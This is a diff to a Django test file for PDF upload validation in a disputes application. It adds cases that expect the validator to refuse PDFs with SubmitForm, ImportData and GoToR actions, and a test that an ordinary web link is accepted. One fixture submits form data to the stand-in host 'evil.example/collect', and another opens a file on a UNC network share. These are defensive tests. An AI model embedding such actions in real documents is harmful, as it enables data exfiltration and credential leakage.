@@ -11,6 +11,7 @@ no Document row and no file in this test's own storage folder.
 import re
 from datetime import date
 
+import pikepdf
 import pytest
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.urls import reverse
@@ -50,6 +51,13 @@ UPLOAD_REFUSALS = [
     ("afgekapt op 70%", "half.pdf", pdf_bytes(5)[: int(len(pdf_bytes(5)) * 0.7)], DAMAGED),
     ("afgekapt vlak voor %%EOF", "bijna.pdf", pdf_bytes(2)[:-30], DAMAGED),
     ("Launch-actie in een link (indirect)", "link.pdf", h.modified(h.launch_link), ACTIVE),
+    ("formulier verstuurt gegevens (SubmitForm)", "form.pdf",
+     h.modified(h.action_link("SubmitForm", F=pikepdf.String("https://evil.example/collect"))), ACTIVE),
+    ("gegevens inlezen uit een bestand (ImportData)", "import.pdf",
+     h.modified(h.action_link("ImportData", F=pikepdf.String("gegevens.fdf"))), ACTIVE),
+    ("ander bestand openen (GoToR)", "ander.pdf",
+     h.modified(h.action_link("GoToR", F=pikepdf.String("\\\\server\\share\\x.pdf"), D=pikepdf.Array([0]))),
+     ACTIVE),
     ("ingesloten bestand als bijlage-annotatie", "bijlage.pdf", h.modified(h.embedded_file_attachment), ACTIVE),
     ("ingesloten bestand zonder /Type", "bijlage2.pdf", h.modified(h.embedded_file_untyped), ACTIVE),
     ("XFA als array", "xfa.pdf", h.modified(h.xfa_array), ACTIVE),
@@ -637,3 +645,13 @@ def test_impossible_past_and_far_dates_are_field_errors_on_the_staff_forms(clien
     assert wrong == [], form
     assert Dispute.objects.get(pk=case.pk).version == case.version
     assert not case.deadlines.filter(kind__in=["remedy", "information"]).exists()
+
+
+def test_an_ordinary_web_link_in_a_pdf_is_allowed():
+    from django.core.files.base import ContentFile
+
+    from disputes.uploads import check_upload
+
+    content = h.modified(h.action_link("URI", URI=pikepdf.String("https://www.volkshuisvestingnederland.nl/")))
+    checked = check_upload(ContentFile(content, name="rapport.pdf"))
+    assert checked.sha256 and checked.size == len(content)
